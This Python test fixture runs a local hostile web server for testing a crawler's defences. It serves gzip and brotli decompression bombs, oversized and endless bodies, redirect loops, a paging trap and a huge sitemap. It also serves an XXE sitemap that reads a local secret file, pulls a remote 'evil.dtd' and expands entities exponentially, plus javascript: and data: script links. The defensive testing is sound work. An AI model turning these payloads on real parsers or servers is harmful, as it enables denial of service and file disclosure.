"""One small hostile portal on 127.0.0.1, a route per attack; every large body is generated as it is sent.

Each attack lives under its own path prefix, with a listing page (``/<attack>/``) that links three ordinary
articles and the attack's article (``/<attack>/bai-viet-99.html``), so a crawl shows both that the attack is
stopped and that the ordinary pages around it are still stored; ``/all/`` lists every page attack at once. The
server also answers on a second port (``other``): same host, another origin, for the redirect and link attacks.

Attacks: ``gzip`` (10 MB of gzip that inflates to 10 GiB), ``gzip1`` (1 MB that inflates to 1 GiB), ``brotli``
(40 KB that inflate to 3 GiB), ``big`` (a 500 MB body with its Content-Length), ``endless`` (a chunked body that
never ends), ``title`` (a 1 MB title), ``loop`` (a redirect loop), ``otherport`` (a redirect to the same host's
other port), ``trap`` (listing pages that page on for ever without an article link), ``hugemap`` (a 200 MB
sitemap of 2.6 million URLs), ``xxe`` (a sitemap whose URLs are external and exponential entities), ``selfref``
(a sitemap index that lists itself), ``stale`` (a sitemap older than the listing), and the WordPress REST
API at ``/wp-json/`` whose posts link ``javascript:``, ``data:``, another host and another port.
"""

from __future__ import annotations

import contextlib
import json
import re
import secrets
import tempfile
import threading
import time
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import brotli

ARTICLE = re.compile(r"^/(?P<attack>[\w-]+)/bai-viet-(?P<n>\d+)\.html$")
ORDINARY = (11, 12, 13)  # the ordinary articles every attack's listing links beside its own
HOSTILE = 99
MIB = 1 << 20
HUGEMAP_URLS = 2_600_000  # about 200 MB of <url> entries


def article_page(attack: str, n: int, title: str | None = None) -> bytes:
    """An ordinary article the generic adapter reads: a title, a publication time and six paragraphs."""
    title = title or f"Tin hoạt động số {n} của huyện ({attack})"
    paragraphs = "".join(
        f"<p>Đoạn {i} của bài {n}: Ban Thường vụ Huyện ủy đã họp để bàn về công tác xây dựng Đảng và chính"
        " quyền trong năm 2024, với nhiều nội dung quan trọng được thống nhất.</p>"
        for i in range(6)
    )
    return (
        f'<html><head><meta charset="utf-8"><title>{title}</title><meta property="article:published_time"'
        f' content="2024-05-{n % 28 + 1:02d}T08:00:00+07:00"></head><body><article><h1>{title}</h1>'
        f"{paragraphs}</article></body></html>"
    ).encode()


PAGE_ATTACKS = ("gzip", "gzip1", "brotli", "big", "endless", "title", "loop", "otherport")


def listing_page(
    attack: str, numbers: tuple[int, ...], next_href: str | None = None, others: tuple[str, ...] = ()
) -> bytes:
    """A listing of ``numbers`` under ``attack``, and the hostile article of each of ``others``."""
    hrefs = [f"/{attack}/bai-viet-{n}.html" for n in numbers] + [f"/{o}/bai-viet-{HOSTILE}.html" for o in others]
    links = "".join(f'<li><a href="{href}">Bài viết {i}</a></li>' for i, href in enumerate(hrefs))
    pager = f'<a rel="next" href="{next_href}">Sau</a>' if next_href else ""
    head = f'<html><head><meta charset="utf-8"><title>{attack}</title></head>'
    return f"{head}<body><ul>{links}</ul>{pager}</body></html>".encode()


def gzip_bomb(compressed_mib: int) -> Iterator[bytes]:
    """A gzip stream of zeros: ~1 KB per MiB with full flushes, so the same block repeats; no trailer needed, as
    a reader that honours its limit never reaches it."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    yield comp.compress(b"\0" * MIB) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(b"\0" * MIB) + comp.flush(zlib.Z_FULL_FLUSH)
    for _ in range(compressed_mib * MIB // len(block)):
        yield block


def brotli_bomb(gib: int) -> bytes:
    """Brotli of ``gib`` GiB of zeros: 13 bytes per flushed MiB once the window is warm, repeated."""
    comp = brotli.Compressor(quality=5)
    warm = b"".join(comp.process(b"\0" * MIB) + comp.flush() for _ in range(3))
    block = comp.process(b"\0" * MIB) + comp.flush()
    return warm + block * (gib * 1024 - 3)


def hugemap(origin: str) -> Iterator[bytes]:
    yield b'<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n'
    for start in range(0, HUGEMAP_URLS, 1000):
        yield "".join(
            f"<url><loc>{origin}/hugemap/bai-viet-{n}.html</loc><lastmod>2024-05-01</lastmod></url>\n"
            for n in range(start + 100, start + 1100)
        ).encode()
    yield b"</urlset>\n"


XXE = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE urlset [
  <!ENTITY file SYSTEM "file://{secret}">
  <!ENTITY remote SYSTEM "http://127.0.0.1:1/evil.dtd">
  <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
  <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
]>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
<url><loc>&file;</loc></url><url><loc>&remote;</loc></url><url><loc>&d;</loc></url>
</urlset>
"""


class _Quiet(ThreadingHTTPServer):
    def handle_error(self, request: object, client_address: object) -> None:
        pass  # a crawler that hangs up mid-body is what these routes provoke


@dataclass
class Hit:
    path: str
    port: int
    at: float


@dataclass
class HostileServer:
    """The hostile portal on two ports of 127.0.0.1; ``hits`` logs every request with its time."""

    servers: list[ThreadingHTTPServer] = field(default_factory=list)
    hits: list[Hit] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)
    _brotli: bytes | None = None
    # A file the XXE sitemap names as an external entity; its text must never reach the crawler's store.
    secret: str = field(default_factory=lambda: "secret-" + secrets.token_hex(8))
    secret_file: Path = field(default_factory=lambda: Path(tempfile.mkdtemp()) / "secret.txt")

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.servers[0].server_address[1]}"

    @property
    def other(self) -> str:
        return f"http://127.0.0.1:{self.servers[1].server_address[1]}"

    def start(self) -> HostileServer:
        self.secret_file.write_text(self.secret, encoding="utf-8")
        for _ in range(2):
            srv = _Quiet(("127.0.0.1", 0), _handler(self))
            srv.daemon_threads = True
            threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
            self.servers.append(srv)
        return self

    def stop(self) -> None:
        for srv in self.servers:
            srv.shutdown()
            srv.server_close()

    def __enter__(self) -> HostileServer:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    def requested(self, prefix: str) -> list[Hit]:
        with self.lock:
            return [h for h in self.hits if h.path.startswith(prefix)]

    def brotli_body(self) -> bytes:
        if self._brotli is None:
            self._brotli = brotli_bomb(3)
        return self._brotli

    def rest_posts(self) -> bytes:
        """Five posts: one ordinary, four whose ``link`` is not a page of this site."""
        links = [
            f"{self.origin}/rest/bai-viet-11.html",
            "javascript:alert(document.cookie)",
            "data:text/html,<script>alert(1)</script>",
            "http://evil.example/rest/bai-viet-12.html",
            f"{self.other}/rest/bai-viet-13.html",
        ]
        posts = [
            {
                "id": 100 + i,
                "link": link,
                "date": "2024-05-02T08:00:00",
                "date_gmt": "2024-05-02T01:00:00",
                "modified": "2024-05-02T08:00:00",
                "modified_gmt": "2024-05-02T01:00:00",
                "title": {"rendered": f"Bài REST số {i}"},
                "content": {"rendered": f"<p>Nội dung bài REST số {i}, về hội nghị của Ban Chấp hành.</p><p>Tiếp.</p>"},
            }
            for i, link in enumerate(links)
        ]
        return json.dumps(posts, ensure_ascii=False).encode()


def _handler(state: HostileServer) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            pass

        def do_GET(self) -> None:
            with state.lock:
                state.hits.append(Hit(self.path, self.server.server_address[1], time.monotonic()))
            with contextlib.suppress(BrokenPipeError, ConnectionResetError, ConnectionAbortedError):
                self.route()  # the crawler may stop reading: the point of most attacks

        def send(self, status: int, body: bytes = b"", ctype: str = "text/html; charset=utf-8", **headers: str) -> None:
            self.send_response(status)
            self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(body)))
            for name, value in headers.items():
                self.send_header(name.replace("_", "-"), value)
            self.end_headers()
            self.wfile.write(body)

        def stream(self, chunks: Iterator[bytes], ctype: str, length: int | None = None, **headers: str) -> None:
            """A body written as it is made: with its Content-Length, else chunked."""
            self.send_response(200)
            self.send_header("Content-Type", ctype)
            if length is None:
                self.send_header("Transfer-Encoding", "chunked")
            else:
                self.send_header("Content-Length", str(length))
            for name, value in headers.items():
                self.send_header(name.replace("_", "-"), value)
            self.end_headers()
            for chunk in chunks:
                self.wfile.write(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n" if length is None else chunk)
            if length is None:
                self.wfile.write(b"0\r\n\r\n")

        def route(self) -> None:
            path = self.path
            port = self.server.server_address[1]
            if path == "/robots.txt":
                return self.send(200, b"User-agent: *\nAllow: /\n", "text/plain")
            if path.startswith("/wp-json/"):
                return self.send(200, state.rest_posts(), "application/json; charset=utf-8")
            m = ARTICLE.match(path.split("?")[0])
            if m and (int(m["n"]) != HOSTILE or port != state.servers[0].server_address[1]):
                return self.send(200, article_page(m["attack"], int(m["n"])))
            if m:
                return self.attack(m["attack"])
            attack, _, rest = path.strip("/").partition("/")
            if path.startswith("/trap/"):
                page = int(path.rsplit("=", 1)[1]) if "page=" in path else 1
                numbers = ORDINARY if page == 1 else ()
                return self.send(200, listing_page("trap", numbers, f"/trap/?page={page + 1}"))
            if path == "/loop/hop":
                return self.send(302, Location="/loop/bai-viet-99.html")
            if rest == "sitemap.xml":
                return self.sitemap(attack)
            if path.startswith("/stale/"):  # a sitemap older than the listing: pages 1 and 2 show newer articles
                page = int(path.rsplit("=", 1)[1]) if "page=" in path else 1
                numbers, nxt = ((11, 12, 13), "/stale/?page=2") if page == 1 else ((14, 15), None)
                if rest == "sitemap.xml":
                    return self.sitemap("stale")
                return self.send(200, listing_page("stale", numbers, nxt))
            if path == "/all/":  # every page attack at once, beside the ordinary articles
                return self.send(200, listing_page("all", ORDINARY, others=PAGE_ATTACKS))
            if path == f"/{attack}/":  # a sitemap attack's listing has only the ordinary articles
                own = () if attack in ("hugemap", "xxe", "selfref", "rest") else (HOSTILE,)
                return self.send(200, listing_page(attack, (*ORDINARY, *own)))
            return self.send(404, b"<html><body>404</body></html>")

        def sitemap(self, attack: str) -> None:
            xml = "application/xml"
            if attack == "hugemap":
                return self.stream(hugemap(state.origin), xml)
            if attack == "xxe":
                return self.send(200, XXE.replace("{secret}", str(state.secret_file)).encode(), xml)
            if attack == "stale":
                urls = "".join(f"<url><loc>{state.origin}/stale/bai-viet-{n}.html</loc></url>" for n in (11, 12))
                urlset = (
                    f'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{urls}</urlset>'
                )
                return self.send(200, urlset.encode(), xml)
            if attack == "selfref":
                index = (
                    '<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
                    f"<sitemap><loc>{state.origin}/selfref/sitemap.xml</loc></sitemap></sitemapindex>"
                )
                return self.send(200, index.encode(), xml)
            return self.send(404, b"")

        def attack(self, attack: str) -> None:
            html = "text/html; charset=utf-8"
            if attack == "gzip":  # 10 MB on the wire: stopped as it arrives
                return self.stream(gzip_bomb(10), html, Content_Encoding="gzip")
            if attack == "gzip1":  # 1 MB on the wire, 1 GiB inflated: stopped while it is decompressed
                return self.stream(gzip_bomb(1), html, Content_Encoding="gzip")
            if attack == "brotli":
                return self.send(200, state.brotli_body(), html, Content_Encoding="br")
            if attack == "big":
                size = 500_000_000
                return self.stream((b"a" * MIB for _ in range(size // MIB + 1)), html, length=(size // MIB + 1) * MIB)
            if attack == "endless":
                return self.stream(iter(lambda: b"<p>" + b"x" * 65536 + b"</p>", b""), html)
            if attack == "title":
                title = ("Hội nghị Ban Chấp hành Đảng bộ huyện lần thứ mười " * 20_000)[:1_000_000]
                return self.send(200, article_page("title", HOSTILE, title))
            if attack == "loop":
                return self.send(302, Location="/loop/hop")
            if attack == "otherport":
                return self.send(302, Location=f"{state.other}/otherport/bai-viet-99.html")
            return self.send(404, b"")

    return Handler
